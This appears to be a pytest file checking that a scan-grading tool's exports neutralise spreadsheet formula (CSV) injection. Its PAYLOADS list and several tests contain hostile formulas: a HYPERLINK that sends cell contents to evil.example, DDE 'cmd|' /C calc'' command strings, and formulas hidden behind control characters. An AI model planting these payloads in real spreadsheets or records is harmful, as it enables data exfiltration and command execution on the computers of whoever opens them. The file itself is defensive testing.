"""Formula injection (OWASP "CSV injection"): every export of every command shows text as text.

Payloads reach the exports through every text input: the practical-scores
CSV's ``nama`` (``ljun grade``), a scan file's name (the ``source`` column of
``ljun score``) and any text field of a result record.  In CSV a dangerous
cell gets a leading ``'``; in XLSX it is a string cell, never a formula;
numbers stay numbers; JSONL carries the text unchanged.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import Any

import numpy as np
import openpyxl
import pytest
from _hostile_helpers import key_args, read_jsonl
from PIL import Image

from ljun._safe import csv_text, printable, xlsx_text
from ljun.export import export_records
from ljun.records import RESULT_KEYS

#: Payloads a hostile tester used (issue 10), each a formula in a spreadsheet.
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\uff1d1+1",  # full-width equals sign
)

# Text fields of a result record that come from outside (scan names, decoded bubbles).
_TEXT_FIELDS = (
    "source",
    "template",
    "nomor_peserta",
    "nama",
    "tanggal_lahir",
    "kode_kompetensi",
    "barcode",
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_text_neutralises_every_payload(payload):
    assert csv_text(payload) == "'" + payload


@pytest.mark.parametrize("text", ["Ani Lestari", "-5", "+7,50", "7.5", "", "4-12-05", "a=b"])
def test_csv_text_leaves_plain_text_and_numbers(text):
    assert csv_text(text) == text


def test_xlsx_and_terminal_text_escape_control_characters():
    assert xlsx_text("a\x1bb\x00") == "a\\x1bb\\x00"
    assert printable("a\x1b[2J\u202eb\nc") == "a\\x1b[2J\\u202eb\\x0ac"
    assert printable("a\nb\x1b", keep_newlines=True) == "a\nb\\x1b"


def _record(payload: str, page: int) -> dict[str, Any]:
    record: dict[str, Any] = {name: payload for name in _TEXT_FIELDS}
    record.update(
        page=page,
        paket="A",
        answers=["A", "", "*"],
        correct=30,
        score=Decimal("7.50"),
        flags=["answer_unsure:2"],
        review=True,
    )
    return record


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as handle:  # keep a "\r" inside a cell
        return list(csv.DictReader(handle))


def _xlsx_cells(path: Path) -> list[Any]:
    workbook = openpyxl.load_workbook(path)
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _no_formula_in(path: Path) -> bool:
    with zipfile.ZipFile(path) as archive:
        return not any(
            b"<f>" in archive.read(name) or b"<f " in archive.read(name)
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )


def test_score_exports_write_payloads_as_text(tmp_path):
    records = [_record(p, n) for n, p in enumerate(PAYLOADS, start=1)]
    export_records(records, tmp_path / "out.csv")
    export_records(records, tmp_path / "out.jsonl")
    export_records(records, tmp_path / "out.xlsx")

    rows = _csv_rows(tmp_path / "out.csv")
    assert len(rows) == len(PAYLOADS)
    for row, payload in zip(rows, PAYLOADS):
        for name in _TEXT_FIELDS:
            assert row[name] == "'" + payload
        assert (row["page"], row["correct"], row["score"]) == (row["page"], "30", "7.50")

    lines = read_jsonl(tmp_path / "out.jsonl")
    assert [line["nama"] for line in lines] == list(PAYLOADS)

    assert _no_formula_in(tmp_path / "out.xlsx")
    cells = _xlsx_cells(tmp_path / "out.xlsx")
    texts = {c.value for c in cells if c.data_type == "s"}
    assert set(PAYLOADS) - {" =1+1", "\r=1+1"} <= texts  # XML keeps the text exactly ...
    assert all(c.data_type in ("s", "n", "b") for c in cells if c.value is not None)
    scores = [c for c in cells if c.number_format == "0.00" and c.value is not None]
    assert scores and all(c.data_type == "n" for c in scores)  # ... and numbers stay numbers


def test_score_xlsx_source_column_of_a_scan_named_like_a_formula(run_cli, tmp_path, monkeypatch):
    """Regression: a scan file named '=1+1.png' became a formula in the XLSX source column."""
    monkeypatch.chdir(tmp_path)
    Image.fromarray(np.full((120, 90), 255, np.uint8)).save("=1+1.png")
    Image.fromarray(np.full((100, 80), 255, np.uint8)).save("@SUM(A1).png")  # not the same page
    result = run_cli(
        "score", "=1+1.png", "@SUM(A1).png", *key_args(), "--db", "s.sqlite",
        "--workers", "1", "--out", "hasil.xlsx", "--no-progress",
    )  # fmt: skip
    assert result.exit_code == 0, result.stderr
    assert run_cli("export", "--db", "s.sqlite", "--out", "hasil.csv").exit_code == 0
    assert _no_formula_in(tmp_path / "hasil.xlsx")
    sources = {c.value for c in _xlsx_cells(tmp_path / "hasil.xlsx") if c.data_type == "s"}
    assert {"=1+1.png", "@SUM(A1).png"} <= sources
    rows = _csv_rows(tmp_path / "hasil.csv")
    assert [r["source"] for r in rows] == ["'=1+1.png", "'@SUM(A1).png"]


def _theory(nomor: str) -> dict[str, Any]:
    return {
        "source": "scans/ruang1.tif",
        "page": int(nomor[10:13]),
        "template": "ljun-teori-kejuruan",
        "nomor_peserta": nomor,
        "nama": "NAMA",
        "tanggal_lahir": "010195",
        "kode_kompetensi": "6018",
        "paket": "A",
        "barcode": "",
        "answers": ["A"] * 40,
        "correct": 30,
        "score": "7.50",
        "flags": [],
        "review": False,
    }


def test_grade_outputs_write_praktik_payloads_as_text(run_cli, tmp_path):
    """Regression: a nama '=HYPERLINK(...)' in praktik.csv became a live formula in the XLSX."""
    # The practical-scores reader takes a carriage return for the end of a line.
    payloads = [p for p in PAYLOADS if "\r" not in p]
    nomors = [f"4120503012{i:03d}7" for i in range(1, len(payloads) + 1)]
    results = tmp_path / "hasil.jsonl"
    # The last participant has no theory sheet: a problem row that repeats the nama.
    results.write_text("".join(json.dumps(_theory(n)) + "\n" for n in nomors[:-1]), "utf-8")
    praktik = io.StringIO()
    writer = csv.writer(praktik, lineterminator="\n")
    writer.writerow(["nomor_peserta", "nama", "kode_kompetensi", "nilai_praktik"])
    for nomor, payload in zip(nomors, payloads):
        writer.writerow([nomor, payload, "6018", "8.25"])
    (tmp_path / "praktik.csv").write_text(praktik.getvalue(), "utf-8")
    out_csv, out_xlsx, problems = tmp_path / "n.csv", tmp_path / "n.xlsx", tmp_path / "p.csv"
    result = run_cli(
        "grade", "--results", results, "--praktik", tmp_path / "praktik.csv",
        "--out", out_csv, "--out", out_xlsx, "--problems", problems,
    )  # fmt: skip
    assert result.exit_code == 0, result.stderr

    for path in (out_csv, problems):
        rows = _csv_rows(path)
        assert rows
        for row in rows:
            for value in row.values():
                assert csv_text(value.lstrip("'")) == value or not value.startswith(
                    ("=", "+", "-", "@", "\t", "\r", " ")
                ), (path.name, value)
            assert row["nama"].startswith("'") or row["nama"] == "NAMA"
    grades = _csv_rows(out_csv)
    assert {r["nilai_praktik"] for r in grades} == {"8.25"}  # numbers stay numbers

    assert _no_formula_in(out_xlsx)
    cells = _xlsx_cells(out_xlsx)
    assert all(c.data_type in ("s", "n", "b") for c in cells if c.value is not None)
    texts = {c.value for c in cells if c.data_type == "s"}
    assert '=HYPERLINK("http://evil.example/?"&A1,"klik")' in texts
    assert "@SUM(1+1)*cmd|' /C calc'!A0" in texts
    assert any(c.data_type == "n" and c.value == Decimal("8.25") or c.value == 8.25 for c in cells)


def test_every_result_key_is_exported(tmp_path):
    """The neutralised CSV keeps every column of ARCHITECTURE.md §3, in order."""
    export_records([_record("=1", 1)], tmp_path / "o.csv")
    header = (tmp_path / "o.csv").read_text("utf-8").splitlines()[0]
    assert header.split(",") == list(RESULT_KEYS)
